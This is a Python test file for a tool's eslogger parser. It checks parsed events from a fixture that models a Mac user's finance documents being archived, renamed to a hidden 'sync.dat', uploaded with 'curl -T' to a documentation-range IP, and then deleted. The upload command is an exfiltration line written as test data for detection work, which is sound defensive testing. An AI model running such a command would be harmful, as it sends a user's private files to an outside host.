"""Golden tests for the eslogger source: hand-written lines in eslogger's own JSON shape (slashes
escaped as Foundation writes them, the full process and stat objects), one archive staged,
renamed, uploaded and removed on a Mac."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import FALCO, OCSF, TETRAGON, ZEEK, read
from tidewaiter.events import Activity, Event, File, Kind, Process, RawRef
from tidewaiter.sources import all_sources, get

all_sources()
import tidewaiter.sources.eslogger  # noqa: E402, F401 - registers the source

T0 = 1709287200.0  # 2024-03-01T10:00:00Z
ARCHIVE = "/Users/alice/Library/Caches/q1 export.tgz"
TAR = Process(pid=8123, path="/usr/bin/tar", user="501", session="100004")
DITTO = Process(pid=8151, path="/usr/bin/ditto", user="0", session="100004")


@pytest.fixture(scope="module")
def path(fixtures: Path) -> Path:
    return fixtures / "eslogger" / "events.jsonl"


@pytest.fixture(scope="module")
def by_line(path: Path) -> dict[int, Event]:
    events = read(path)[0]
    return {event.raw.line or 0: event for event in events}


def ref(path: Path, line: int) -> RawRef:
    return RawRef("eslogger", str(path), line=line)


def test_lines_are_sniffed_and_counted(path: Path) -> None:
    events, report = read(path)
    assert report.files == {str(path): "eslogger"}
    assert (report.records, report.events, report.ignored, report.skipped_total) == (16, 12, 4, 0)
    assert len(events) == 12


def test_exec_is_a_launch_of_the_target_with_argv_cwd_and_parent(
    path: Path, by_line: dict[int, Event]
) -> None:
    # The instigating process is the forked zsh with the target's own pid: the parent's pid is
    # the target's ppid, its path the image that called exec.
    assert by_line[2] == Event(
        time=T0 + 0.123456,  # nanosecond ISO text, to the microsecond
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(path, 2),
        process=Process(
            pid=8123,
            path="/usr/bin/tar",
            cmd_line="tar -czf '/Users/alice/Library/Caches/q1 export.tgz' -C /Users/alice "
            "Documents/Finance",
            args=("tar", "-czf", ARCHIVE, "-C", "/Users/alice", "Documents/Finance"),
            cwd="/Users/alice",
            user="501",
            session="100004",
            parent=Process(pid=8120, path="/bin/zsh"),
        ),
    )


def test_exec_under_sudo_takes_the_effective_uid(path: Path, by_line: dict[int, Event]) -> None:
    assert by_line[11] == Event(
        time=T0 + 9.32,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(path, 11),
        process=Process(
            pid=8151,
            path="/usr/bin/ditto",
            cmd_line="ditto -c -k --sequesterRsrc --keepParent /Users/alice/Documents "
            "/private/tmp/d.zip",
            args=(
                "ditto",
                "-c",
                "-k",
                "--sequesterRsrc",
                "--keepParent",
                "/Users/alice/Documents",
                "/private/tmp/d.zip",
            ),
            cwd="/Users/alice",
            user="0",
            session="100004",
            parent=Process(pid=8150, path="/usr/bin/sudo"),
        ),
    )


def test_upload_exec(path: Path, by_line: dict[int, Event]) -> None:
    args = ("curl", "-sS", "-T", "/Users/alice/.cache/sync.dat", "https://198.51.100.7/u")
    assert by_line[8] == Event(
        time=T0 + 6.01,
        kind=Kind.PROCESS,
        activity=Activity.LAUNCH,
        raw=ref(path, 8),
        process=Process(
            pid=8140,
            path="/usr/bin/curl",
            cmd_line=" ".join(args),
            args=args,
            cwd="/Users/alice",
            user="501",
            session="100004",
            parent=Process(pid=8120, path="/bin/zsh"),
        ),
    )


MV = Process(pid=8131, path="/bin/mv", user="501", session="100004")
RSYNC = Process(pid=8155, path="/usr/bin/rsync", user="501", session="100004")
RM = Process(pid=8160, path="/bin/rm", user="501", session="100004")
SYNC = "/Users/alice/.cache/sync.dat"
ZIP = "/private/tmp/d.zip"


@pytest.mark.parametrize(
    ("line", "seconds", "activity", "process", "file"),
    [
        (3, 0.25, Activity.CREATE, TAR, ARCHIVE),  # destination_type 0: existing_file
        (4, 3.75, Activity.WRITE, TAR, ARCHIVE),  # close with modified: true
        (7, 4.25, Activity.RENAME, MV, SYNC),  # new_path: its dir has a trailing slash
        (12, 9.33, Activity.CREATE, DITTO, ZIP),  # new_path: dir and filename
        (13, 11.5, Activity.RENAME, RSYNC, SYNC),  # over an existing file
        (14, 11.6, Activity.WRITE, DITTO, ZIP),
        (15, 13.01, Activity.DELETE, RM, ZIP),
    ],
)
def test_file_events(
    path: Path,
    by_line: dict[int, Event],
    line: int,
    seconds: float,
    activity: Activity,
    process: Process,
    file: str,
) -> None:
    assert by_line[line] == Event(
        time=T0 + seconds,
        kind=Kind.FILE,
        activity=activity,
        raw=ref(path, line),
        process=process,
        file=File(path=file),
    )


def test_exits(path: Path, by_line: dict[int, Event]) -> None:
    assert by_line[5] == Event(
        time=T0 + 3.8, kind=Kind.PROCESS, activity=Activity.EXIT, raw=ref(path, 5), process=TAR
    )
    assert by_line[16].activity is Activity.EXIT
    assert by_line[16].process == Process(
        pid=8140, path="/usr/bin/curl", user="501", session="100004"
    )


def test_records_with_nothing_to_use_give_no_events(by_line: dict[int, Event]) -> None:
    # 1 fork, 6 exchangedata (event_type 14, which is not exit), 9 an unmodified close, 10 open.
    assert sorted(by_line) == [2, 3, 4, 5, 7, 8, 11, 12, 13, 14, 15, 16]


def test_no_host_and_no_container(by_line: dict[int, Event]) -> None:
    assert {(event.host, event.container) for event in by_line.values()} == {(None, None)}


def _decode(line: bytes) -> list[Event]:
    return list(get("eslogger").decoder("x").feed(line, RawRef("eslogger", "x", line=1)))


def test_the_number_decides_the_event() -> None:
    # 15 is ES_EVENT_TYPE_NOTIFY_EXIT; 14, EXCHANGEDATA, is not read whatever its payload says.
    body = b'"time":"2024-03-01T10:00:00Z","process":{"audit_token":{"pid":7}},"event":{"exit":{}}}'
    assert [e.activity for e in _decode(b'{"event_type":15,' + body)] == [Activity.EXIT]
    assert _decode(b'{"event_type":14,' + body) == []


def test_without_an_event_type_a_lone_key_names_the_event() -> None:
    events = _decode(
        b'{"time":"2024-03-01T10:00:00Z","process":{"audit_token":{"pid":7}},'
        b'"event":{"unlink":{"target":{"path":"/tmp/x.zip"}}}}'
    )
    assert [(e.activity, e.file) for e in events] == [(Activity.DELETE, File(path="/tmp/x.zip"))]


def test_malformed_lines_are_counted_and_located(fixtures: Path) -> None:
    path = fixtures / "eslogger" / "malformed.jsonl"
    events, report = read(path, fmt="eslogger")
    assert report.records == 12  # the blank line 4 is not a record
    assert report.skipped == Counter(
        {
            "malformed JSON": 2,
            "JSON is not an object": 1,
            "record has no time": 1,
            "event_type 13 has no create payload": 1,
            "event is not an object": 1,
            "exec without a target process": 1,
            "create without a destination path": 1,
            "unreadable time 'yesterday'": 1,
            "record has no event": 1,
        }
    )
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 1", "malformed JSON"),
        ("line 2", "JSON is not an object"),
        ("line 5", "record has no time"),
        ("line 6", "event_type 13 has no create payload"),
        ("line 7", "event is not an object"),
        ("line 8", "exec without a target process"),
        ("line 9", "create without a destination path"),
        ("line 10", "unreadable time 'yesterday'"),
        ("line 11", "malformed JSON"),
        ("line 13", "record has no event"),
    ]
    assert [event.raw.line for event in events] == [3, 12]
    assert (report.events, report.ignored) == (2, 0)
    # A non-UTF-8 byte in an argument keeps its event, marked.
    assert events[0].process is not None
    assert events[0].process.args == ("zip", "-r", "/tmp/caf\ufffd.zip", "/Users/alice")
    # Types drift: event_type, pids and uid as strings, a number among the arguments.
    assert events[1].process == Process(
        pid=9002,
        path="/usr/bin/zip",
        cmd_line="zip -9 1 /tmp/b.zip",
        args=("zip", "-9", "1", "/tmp/b.zip"),
        cwd="/tmp",
        user="0",
        parent=Process(pid=8120, path="/bin/zsh"),
    )


def test_sniff_accepts_eslogger(path: Path, fixtures: Path) -> None:
    assert get("eslogger").sniff(path.read_bytes()[:65536])
    assert get("eslogger").sniff((fixtures / "eslogger" / "malformed.jsonl").read_bytes())


@pytest.mark.parametrize(
    "head",
    [TETRAGON, FALCO, ZEEK, OCSF, b"", b"\x00\x01binary", b"{}\n"],
    ids=["tetragon", "falco", "zeek-json", "ocsf", "empty", "binary", "empty-object"],
)
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("eslogger").sniff(head)


def test_sniff_rejects_every_other_fixture(fixtures: Path) -> None:
    others = [f for f in sorted(fixtures.rglob("*")) if f.is_file() and f.parent.name != "eslogger"]
    assert any(f.parent.name == "k8s_audit" for f in others)
    for other in others:
        assert not get("eslogger").sniff(other.read_bytes()[:65536]), other
